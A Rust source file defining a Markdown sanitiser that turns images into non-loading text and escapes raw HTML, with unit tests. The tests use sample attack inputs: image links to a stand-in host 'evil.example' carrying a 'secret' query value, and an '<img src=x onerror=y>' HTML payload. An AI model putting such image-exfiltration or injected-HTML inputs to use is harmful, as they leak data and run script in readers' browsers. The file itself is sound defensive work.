//! Markdown that is read elsewhere: in a file, in another program.

use std::ops::Range;

use pulldown_cmark::{Event, Options, Parser, Tag};

/// How often a text is read anew before all of it that could be markup is taken for text.
const READINGS: usize = 4;

/// The same text without what a reader would load by itself or take for markup: a picture becomes a link, whose address leads
/// nowhere until somebody follows it, and raw HTML becomes text. Code stays as it is.
///
/// What was raw HTML is Markdown from then on, and may hold a picture or the end of some code: the text is read again until
/// nothing is found any more.
pub fn quiet(markdown: &str) -> String {
    let mut text = markdown.to_owned();
    for _ in 0..READINGS {
        match quieter(&text) {
            Some(quieter) => text = quieter,
            None => return text,
        }
    }
    text.replace('<', "&lt;").replace("![", "&#33;[")
}

/// The text without the pictures and the raw HTML that one reading finds; nothing where it finds none.
fn quieter(markdown: &str) -> Option<String> {
    let mut pictures: Vec<usize> = Vec::new();
    let mut tags: Vec<Range<usize>> = Vec::new();
    // Who reads it may know no tables, in which code begins and ends elsewhere, or footnotes: what is indented below one is
    // code to others.
    for options in [Options::empty(), super::options(), super::options() | Options::ENABLE_FOOTNOTES] {
        for (event, range) in Parser::new_ext(markdown, options).into_offset_iter() {
            match event {
                Event::Start(Tag::Image { .. }) => pictures.push(range.start),
                Event::Html(_) | Event::InlineHtml(_) => tags.push(range),
                _ => {}
            }
        }
    }
    if pictures.is_empty() && tags.is_empty() {
        return None;
    }
    pictures.sort_unstable();
    pictures.dedup();
    tags.sort_unstable_by_key(|range| range.start);
    let (mut pictures, mut tags) = (pictures.into_iter().peekable(), tags.into_iter().peekable());
    let mut text = String::with_capacity(markdown.len() + 64);
    for (at, character) in markdown.char_indices() {
        while tags.next_if(|range| range.end <= at).is_some() {}
        let is_picture = pictures.next_if_eq(&at).is_some();
        match character {
            '<' if tags.peek().is_some_and(|range| range.contains(&at)) => text.push_str("&lt;"),
            '!' if is_picture => text.push_str("\\!"),
            other => text.push(other),
        }
    }
    Some(text)
}

#[cfg(test)]
mod tests {
    use super::quiet;

    #[test]
    fn pictures_and_raw_html_load_nothing() {
        for (given, expected) in [
            (
                "See ![a map](https://evil.example/?q=secret) here.",
                "See \\![a map](https://evil.example/?q=secret) here.",
            ),
            ("![a][1]\n\n[1]: https://evil.example/a.png\n", "\\![a][1]\n\n[1]: https://evil.example/a.png\n"),
            ("An <img src=x onerror=y> inside.", "An &lt;img src=x onerror=y> inside."),
            ("<div>\n<img src=x>\n</div>\n", "&lt;div>\n&lt;img src=x>\n&lt;/div>\n"),
            // What comes to light behind them.
            ("<div>\n![a](https://evil.example)\n</div>\n", "&lt;div>\n\\![a](https://evil.example)\n&lt;/div>\n"),
            ("[^a]: b\n\n    <img src=x>\n", "[^a]: b\n\n    &lt;img src=x>\n"),
            ("|`|`<img src=x>`|\n|---|---|\n", "|`|`&lt;img src=x>`|\n|---|---|\n"),
            ("<b title=\"`\"> `<img src=x>`", "&lt;b title=\"`\"> `&lt;img src=x>`"),
        ] {
            assert_eq!(quiet(given), expected);
        }
    }

    #[test]
    fn everything_else_stays_as_it_is() {
        for text in [
            "Done! [1] and `![a](b) <img>`, 1 < 2.",
            "```html\n<img src=x>\n![a](b)\n```",
            "- a\n- *b*\n\n> [c](https://example.org)",
            "",
        ] {
            assert_eq!(quiet(text), text);
        }
    }
}
